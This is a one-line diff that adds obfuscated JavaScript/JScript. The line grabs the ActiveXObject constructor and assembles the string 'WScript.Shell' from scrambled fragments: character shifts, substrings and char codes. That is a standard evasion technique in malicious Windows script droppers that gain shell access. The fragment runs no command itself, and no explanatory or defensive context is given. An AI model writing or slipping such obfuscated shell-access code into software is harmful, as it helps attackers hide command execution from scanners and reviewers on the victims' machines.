@@ -1,0 +1,1 @@
+function d(c){return String.fromCharCode(c - 3);} var w = this[('a', 1, 'ActiveXObject')]; x = 'qWz'['charAt'](1) + 'xScr'.substr(1, 3) + (function z(){return 'ipt';}()) + d(49) + String.fromCharCode(83, 0x68) + 'aell'[1] + 'l.l'.slice(0, 1);
